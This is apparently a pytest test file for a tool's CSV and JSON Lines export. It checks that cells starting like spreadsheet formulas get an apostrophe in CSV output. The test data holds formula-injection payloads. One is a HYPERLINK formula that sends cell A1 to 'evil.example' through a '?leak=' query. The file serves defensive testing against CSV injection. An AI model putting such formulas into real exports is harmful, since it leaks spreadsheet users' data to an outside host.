"""CSV cells a spreadsheet would run as formulas are neutralised; JSON Lines stay as stored."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from pydantic import BaseModel
from typer.testing import CliRunner

from corroborator.cli.app import app
from corroborator.config import Settings
from corroborator.export import write_csv, write_jsonl
from corroborator.ingest import ingest
from corroborator.store import Store

FORMULAS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil.example","click")': '\'=HYPERLINK("http://evil.example","click")',
    "+31 20 555 0100": "'+31 20 555 0100",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HARMLESS = ["Harbour wall to be rebuilt", "a=b", "x-1", "", " =1 (after a space)", "'quoted"]


class Member(BaseModel):
    name: str
    score: float


class Row(BaseModel):
    title: str
    count: int
    members: list[Member]


def test_text_cells_starting_like_formulas_get_an_apostrophe_and_no_other_cell_changes() -> None:
    values = list(FORMULAS) + HARMLESS
    records = [Row(title=value, count=-3, members=[Member(name=value, score=-1.5)]) for value in values]
    out = io.StringIO()

    write_csv(records, out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["group_title"] for row in rows] == [FORMULAS.get(value, value) for value in values]
    assert [row["name"] for row in rows] == [FORMULAS.get(value, value) for value in values]
    assert {(row["group_count"], row["score"]) for row in rows} == {("-3", "-1.5")}  # numbers are not text


def test_jsonl_keeps_every_value_as_stored() -> None:
    records = [Row(title=value, count=-3, members=[Member(name=value, score=-1.5)]) for value in FORMULAS]
    out = io.StringIO()

    write_jsonl(records, out)

    assert [json.loads(line)["title"] for line in out.getvalue().splitlines()] == list(FORMULAS)


def test_an_article_titled_with_a_formula_exports_neutralised_to_csv_only(
    tmp_path: Path, store: Store, settings: Settings
) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Harbour wall")'
    dump = tmp_path / "dump.jsonl"
    dump.write_text(
        json.dumps(
            {
                "id": "-17",
                "title": title,
                "author": "@harbourdesk",
                "text": "The harbour wall will be rebuilt before winter, the port authority said.",
            }
        )
        + "\n",
        encoding="utf-8",
    )
    assert ingest([str(dump)], store, settings.ingest).new == 1
    db = store.url.removeprefix("sqlite:///")
    runner = CliRunner()

    as_csv = runner.invoke(app, ["export", "articles", "--format", "csv", "--db", db])
    as_jsonl = runner.invoke(app, ["export", "articles", "--db", db])

    assert as_csv.exit_code == 0, as_csv.output
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout, newline="")))
    assert (row["title"], row["author"], row["external_id"]) == ("'" + title, "'@harbourdesk", "'-17")
    [record] = [json.loads(line) for line in as_jsonl.stdout.splitlines()]
    assert (record["title"], record["author"], record["external_id"]) == (title, "@harbourdesk", "-17")
